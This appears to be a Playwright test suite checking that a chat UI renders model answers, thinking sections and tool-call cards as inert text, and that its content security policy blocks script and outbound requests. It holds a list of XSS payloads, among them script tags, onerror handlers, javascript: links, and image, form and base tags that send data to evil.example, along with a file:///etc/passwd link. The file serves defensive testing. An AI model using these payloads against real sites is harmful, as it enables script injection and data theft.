"""Everything that a model says is text."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import expect

SCRIPT = "window.harmed = true"
HARMS = [
    f"<script>{SCRIPT}</script>",
    f'<img src=x onerror="{SCRIPT}">',
    f'<svg onload="{SCRIPT}"></svg>',
    '<iframe srcdoc="<script>parent.harmed = true</script>"></iframe>',
    f"[a](javascript:{SCRIPT.replace(' ', '')})",
    f"[a](JaVaScRiPt:{SCRIPT.replace(' ', '')})",
    f"[a](\x01javascript:{SCRIPT.replace(' ', '')})",
    "[a](java\tscript:window.harmed=true)",
    "[a](data:text/html,<script>1</script>)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](//evil.example) [d](/v1/models)",
    "![a](x) ![](https://evil.example/?q=secret) ![a](data:image/svg+xml,<svg/onload=1>)",
    '[a](https://evil.example/"onmouseover="window.harmed=true)',
    f"<https://evil.example/'onclick='{SCRIPT.replace(' ', '')}>",
    "<style>body { display: none }</style>",
    "<base href=https://evil.example/>",
    '<form action="https://evil.example"><button>Send</button></form>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "</div></main></body><h1>Outside</h1>",
    f"```html\n<script>{SCRIPT}</script>\n```",
    f'```"><img src=x onerror={SCRIPT.replace(" ", "")}>\ncode\n```',
    f"|<img src=x onerror={SCRIPT.replace(' ', '')}>|\n|-|\n|<script>{SCRIPT}</script>|",
    f"# <img src=x onerror={SCRIPT.replace(' ', '')}>\n> <script>{SCRIPT}</script>\n\n- <b>x</b>",
    "&lt;script&gt;window.harmed=true&lt;/script&gt;",
]
# Made by Markdown alone; nothing else may come of an answer.
TAGS = {
    *("A", "BLOCKQUOTE", "BR", "BUTTON", "CODE", "DEL", "DIV", "EM", "FIGCAPTION", "FIGURE"),
    *("H3", "H4", "H5", "H6", "HR", "INPUT", "LI", "OL", "P", "PRE", "SPAN", "STRONG"),
    *("TABLE", "TBODY", "TD", "TH", "THEAD", "TR", "UL", "svg", "use"),
}


def check(chat: Any) -> None:
    """Look through the last answer; the fixture has seen what was asked of whom."""
    found = chat.answer.evaluate(
        """(answer) => [...answer.querySelectorAll(".prose *")].map((element) => ({
          tag: element.tagName,
          attributes: [...element.attributes].map((attribute) => attribute.name),
          href: element.getAttribute("href") ?? "",
        }))"""
    )
    for element in found:
        assert element["tag"] in TAGS
        assert not [name for name in element["attributes"] if name.startswith("on")]
        assert "style" not in element["attributes"]
        assert element["href"].startswith(("https://", "#i-")) or element["href"] == ""
        if element["tag"] == "A":
            assert {"rel", "target"} <= set(element["attributes"])
    assert chat.run("() => window.harmed") is None


def test_an_answer_is_harmless(chat: Any) -> None:
    for harm in HARMS:
        chat.say(harm)
        check(chat)
    chat.say("<think>\n" + "\n\n".join(HARMS) + "\n</think>\n\ndone")
    chat.answer.locator(".thinking summary").click()
    check(chat)
    expect(chat.page.get_by_role("button", name="Send", exact=True)).to_be_visible()
    chat.page.reload()
    expect(chat.text).to_have_text("done")
    check(chat)


def test_names_and_arguments_of_calls_are_text(chat: Any) -> None:
    chat.page.route(
        "**/chat/completions",
        lambda route: route.fulfill(content_type="text/event-stream", body=CALL),
    )
    chat.ask("hello")
    card = chat.answer.locator(".call")
    expect(card).to_contain_text("<img src=x onerror=window.harmed=true>")
    expect(card.locator("pre")).to_have_text("<script>window.harmed=true</script>")
    assert card.locator("img, script").count() == 0
    assert chat.run("() => window.harmed") is None


CALL = (
    'data: {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "id": "c", "function":'
    ' {"name": "<img src=x onerror=window.harmed=true>", "arguments":'
    ' "<script>window.harmed=true</script>"}}]}, "finish_reason": "tool_calls"}],'
    ' "usage": {"prompt_tokens": "<b>", "completion_tokens": {}}, "timings": 7}\n\ndata: [DONE]\n\n'
)


@pytest.mark.parametrize(
    "code",
    [
        "() => { document.body.innerHTML = '<b>x</b>' }",
        "() => { document.write('<b>x</b>') }",
        "() => { new DOMParser().parseFromString('<b>x</b>', 'text/html') }",
        "() => { document.createElement('script').text = '1' }",
    ],
)
def test_the_policy_lets_no_text_become_html(chat: Any, code: str) -> None:
    """Not by a mistake of our own either."""
    with pytest.raises(Exception, match=r"TrustedHTML|TrustedScript"):
        chat.run(code)
    chat.problems.clear()  # the browser's own report of it


def test_the_policy_lets_nothing_out(chat: Any) -> None:
    chat.page.route("**/evil.example/**", lambda route: route.fulfill(body="x"))
    with pytest.raises(Exception, match="Failed to fetch"):
        chat.run("() => fetch('https://evil.example/')")
    blocked = chat.run(
        """() => new Promise((resolve) => {
          const image = new Image();
          image.onload = () => resolve(false);
          image.onerror = () => resolve(true);
          image.src = "https://evil.example/a.png";
        })"""
    )
    assert blocked
    chat.problems.clear()
